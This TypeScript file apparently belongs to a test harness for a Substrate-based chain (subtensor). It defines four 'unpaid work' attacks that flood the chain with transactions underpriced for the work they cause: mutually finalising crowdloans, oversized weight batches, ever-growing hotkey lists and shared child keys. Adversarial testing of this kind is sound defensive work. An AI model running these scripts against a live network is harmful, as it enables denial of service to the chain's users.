import { type Attack, crowd, pause } from './attack.ts'
import { type Sender, SIGNER, type Signer, signing, type Transaction } from './sender.ts'

const TAO = 1_000_000_000

const many = <T>(size: number, make: (at: number) => T): T[] => Array.from({ length: size }, (_, at) => make(at))
const accountOf = (n: number) => `0x${n.toString(16).padStart(64, '0')}`

/** Transactions of one account, one after the other. */
const line = (sender: Sender, account: Signer) => async (transaction: Transaction) =>
  sender.send(transaction, account, await sender.nonce(account))

/** A crowdloan that only has to be finalised. */
async function ready(
  sender: Sender,
  {
    of,
    by,
    call,
  }: { of: (call: Transaction) => Promise<void>; by: (call: Transaction) => Promise<void>; call: Transaction },
  id: number,
): Promise<void> {
  const end = (await sender.api.rpc.chain.getHeader()).number.toNumber() + 10_000
  await of(sender.call('crowdloan', 'create', 10 * TAO, TAO / 10, 10.1 * TAO, end, call, null))
  await pause(600)
  await by(sender.call('crowdloan', 'contribute', id, TAO / 10))
}

/** Work that nobody pays for, or for which little is paid. */
export const unpaidWorkAttacks: readonly Attack[] = [
  {
    name: 'stored-calls',
    what: 'crowdloans whose calls finalise one another twice, and one of many calls that fails, finalised over and over in a batch',
    needs: SIGNER,
    run: signing(async (sender, _target, signal) => {
      const [alice, bob] = [line(sender, sender.key('//Alice')), line(sender, sender.key('//Bob'))]
      const finalize = (id: number) => sender.call('crowdloan', 'finalize', id)
      const fails = sender.call('subtensorModule', 'updateSymbol', 1, '0x4142')
      const all = (calls: readonly Transaction[]) => sender.call('utility', 'batchAll', calls)
      const remarks = many(800, (n) => sender.call('system', 'remark', `0x${n.toString(16).padStart(8, '0')}`))
      // The last two would make one another, twice each, without end.
      const calls = [
        all([...remarks, fails]),
        sender.batch([finalize(2), fails]),
        all([finalize(1), fails]),
        sender.batch([finalize(4), finalize(4)]),
        all([finalize(3), fails]),
      ]
      for (const [id, call] of calls.entries())
        if (!signal.aborted) await ready(sender, { of: alice, by: bob, call }, id)
      await pause(600)
      const often = sender.batch(many(100, () => finalize(0)))
      await crowd(1, signal, async () => {
        for (const each of [finalize(0), often, finalize(1), finalize(2), finalize(3)]) await alice(each)
        await pause(100)
      })
    }),
  },
  {
    name: 'long-rows',
    what: 'batches of hundred thousand rows of weights, which take longer than they declare, each of an account that has just been given its money',
    needs: SIGNER,
    run: signing(async (sender, _target, signal) => {
      const alice = line(sender, sender.key('//Alice'))
      const rows = (count: number) =>
        sender.call(
          'subtensorModule',
          'batchSetWeights',
          many(count, () => 1),
          many(count, () => []),
          many(count, () => 0),
        )
      const remark = sender.call('system', 'remark', '0x')
      const calls = [
        sender.batch([rows(300), rows(300), remark]),
        sender.batch([...many(40, () => rows(2500)), remark]),
      ]
      let count = 0
      await crowd(1, signal, async () => {
        const keys = many(12, () => sender.key(`//rows//${count++}`))
        await alice(sender.batch(keys.map(({ address }) => sender.call('balances', 'transferKeepAlive', address, TAO))))
        await pause(600)
        for (const [n, key] of keys.entries())
          if (!signal.aborted) await sender.send(calls[n % calls.length] as Transaction, key, 0)
      })
    }),
  },
  {
    name: 'long-lists',
    what: 'a coldkey that lists ever more hotkeys, and claims through all of them, over and over',
    needs: SIGNER,
    run: signing(async (sender, _target, signal) => {
      const bob = line(sender, sender.key('//Bob'))
      const claim = sender.call('subtensorModule', 'claimRoot', [1])
      let count = 1_000_000
      await crowd(1, signal, async () => {
        const hotkeys = many(160, () => accountOf(count++))
        await bob(sender.batch(hotkeys.map((hotkey) => sender.call('subtensorModule', 'tryAssociateHotkey', hotkey))))
        for (let claims = 0; claims < 3; claims++) await bob(claim)
        await pause(150)
      })
    }),
  },
  {
    name: 'common-children',
    what: 'ever more hotkeys of a subnet that all name the same five children, which count from its next epoch on',
    needs: SIGNER,
    run: signing(async (sender, _target, signal) => {
      const alice = line(sender, sender.key('//Alice'))
      const netuid = 2
      await alice(sender.call('subtensorModule', 'registerNetwork', accountOf(1)))
      const children = many(5, (n) => [3_689_348_814_741_910_000n, accountOf(1000 + n)])
      let count = 10_000
      await crowd(1, signal, async () => {
        await alice(sender.call('subtensorModule', 'startCall', netuid))
        const hotkeys = many(64, () => accountOf(count++))
        await alice(sender.batch(hotkeys.map((hotkey) => sender.call('subtensorModule', 'tryAssociateHotkey', hotkey))))
        for (let at = 0; at < hotkeys.length; at += 16)
          await alice(
            sender.batch(
              hotkeys
                .slice(at, at + 16)
                .map((hotkey) => sender.call('subtensorModule', 'setChildren', hotkey, netuid, children)),
            ),
          )
        await pause(600)
      })
    }),
  },
]
